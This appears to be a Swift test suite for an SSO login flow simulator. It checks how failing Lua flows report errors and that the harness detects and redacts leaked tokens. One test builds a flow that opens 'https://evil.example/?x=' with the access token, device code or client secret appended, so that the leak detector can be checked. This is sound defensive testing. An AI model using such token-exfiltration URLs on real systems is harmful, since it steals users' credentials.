//  FlowEndTests.swift - what a flow says when it ends too early: what `ssoscript run` would say.

import Testing

@testable import SSOScenario

@Suite struct `A flow that fails` {
  @Test(arguments: [
    (
      "local t = {} while true do t[#t + 1] = ('x'):rep(1000000) .. #t end",
      "the memory limit was reached (--memory-limit)"
    ),
    (
      "local function f() return 1 + f() end f()",
      "stack overflow: calls are nested too deep"
    ),
  ])
  func `names the limit that stopped it, as the command does`(flow: String, words: String) throws {
    try Playground(flow: flow).pass(
      """
      local run = sim.run "flow.lua"
      assert.exit(run, 7)
      assert.contains(run.stderr, "flow.lua:1: \(words)\\nstack traceback:\\n")
      assert.equal("\(words)", run.error)
      """)
    let report = try Playground(flow: flow).scenario("sim.run 'flow.lua'", .patient)
    #expect(report.events.last?.text == "ends with 7, \(words)")
  }

  @Test(arguments: [
    ("error 'no'", "flow.lua:1: no\\nstack traceback:\\n", "flow.lua:1: no"),
    (
      "error(setmetatable({}, { __tostring = function() return 'odd' end }))",
      "flow.lua:1: odd\\n", "odd"
    ),
    ("error('\\27[2J', 0)", "flow.lua:1: \\\\u{1b}[2J\\n", "\\\\u{1b}[2J"),
    ("local x = = 1", "flow.lua:1:11: unexpected symbol near '='\\n  local x = = 1\\n", ":1:"),
    ("require 'nothing'", "flow.lua:1: ", "nothing"),
  ])
  func `says it as the command does`(flow: String, words: String, error: String) throws {
    try Playground(flow: flow).pass(
      """
      local run = sim.run "flow.lua"
      assert.exit(run, 1)
      assert.equal(1, (run.stderr:find("\(words)", 1, true)))
      assert.contains(run.error, "\(error)")
      assert.contains(run.stderr, "\(error)")
      """)
  }

  @Test func `says nothing when it was killed`() throws {
    try Playground(flow: "require 'sso'.time.sleep(10)").pass(
      """
      local run = sim.run("flow.lua", { kill_after = "1s" })
      assert.exit(run, 137)
      assert.equal("", run.stderr)
      assert.is_nil(run.error)
      run = sim.run("flow.lua", { limit = "1s" })
      assert.equal("the flow is stopped at its limit of virtual time", run.error)
      assert.equal("(" .. run.error .. ")\\n", run.stderr)
      """)
  }

  @Test func `is not told to be stopped with its scenario once it has ended`() throws {
    var options = ScenarioRunOptions()
    options.timeout = .milliseconds(300)
    let report = try Playground(flow: "").scenario(
      "sim.run 'flow.lua' while true do end", options)
    #expect(report.failure?.message.contains("--timeout") == true)
    #expect(report.events.last?.text.contains("ends with 0") == true, "\(report.events)")
  }

  @Test func `fails its scenario when real time is over, whatever that makes of it`() throws {
    var options = ScenarioRunOptions()
    options.timeout = .milliseconds(300)
    let playground = Playground(flow: "while true do end")
    let ignored = try playground.scenario("sim.run 'flow.lua'", options)
    #expect(ignored.outcome == .error)
    let words = "the real time for one scenario is over (--timeout)"
    #expect(ignored.failure?.message == "the scenario was stopped: \(words)")
    let noticed = try playground.scenario("assert.exit(sim.run 'flow.lua', 0)", options)
    #expect(noticed.outcome == .failed)
    #expect(noticed.failure?.message.contains(words) == true)
    #expect(noticed.failure?.position == "a_spec.lua:1")
  }
}

@Suite struct `S39 a flow with a token` {
  /// A login whose last line is `ending`, with its token in `token`.
  private func report(_ ending: String, browser: String = "nil") throws -> ScenarioReport {
    var playground = Playground.login
    playground.files["flow.lua"]?.replace("os.exit(0)", with: "token = token.accessToken \(ending)")
    return try playground.scenario(
      """
      local svc = sim.service { approve = "1s", device = { interval = 5 } }
      local run = sim.run("flow.lua", { service = svc, env = { OPEN = "1" }, browser = \(browser) })
      print(run.exit, run.stderr, run.error)
      """, .patient)
  }

  @Test func `hides it when it fails, as the command does`() throws {
    let report = try report("error('bad ' .. token)")
    #expect(report.leaks.isEmpty)
    let lines = report.output.split(separator: "\n")
    #expect(lines.first?.hasPrefix("1\t") == true)
    #expect(lines.last?.hasSuffix(": bad <secret>") == true)
    #expect(report.output.contains(": bad <secret>\nstack traceback:\n"), "\(report.output)")
  }

  @Test(arguments: [
    "token", "sso.crypto.base64url_encode('x' .. token)", "auth.deviceCode", "reg.clientSecret",
  ])
  func `may not show it to a page that it opens`(value: String) throws {
    let report = try report("sso.browser.open('https://evil.example/?x=' .. \(value)) os.exit(0)")
    #expect(
      report.leaks == ["process 1, pages that it opened:\n  https://evil.example/?x=<secret>"])
  }

  @Test func `shows the login's pages what they need`() throws {
    let report = try report("os.exit(0)")
    #expect(report.outcome == .passed)
    #expect(report.events.contains { $0.text == "shows a page" })
    #expect(report.leaks.isEmpty)
  }

  @Test func `shows the authorization page what it needs`() throws {
    let report = try Playground(
      flow: """
        require "sso".login {
          start_url = "https://example.awsapps.com/start", region = "us-east-1", flow = "pkce",
          browser = true }
        """
    ).scenario(
      """
      local svc = sim.service {}
      svc:person():opens("browser"):approves()
      local run = sim.run("flow.lua", { service = svc, terminal = true })
      assert.exit(run, 0)
      assert.contains(run.pages[1], "code_challenge=")
      assert.contains(run.pages[1], "state=")
      assert.contains(run.pages[1], "client_id=")
      """, .patient)
    #expect(report.outcome == .passed, "\(report.failure?.message ?? "")")
    #expect(report.leaks.isEmpty)
  }
}
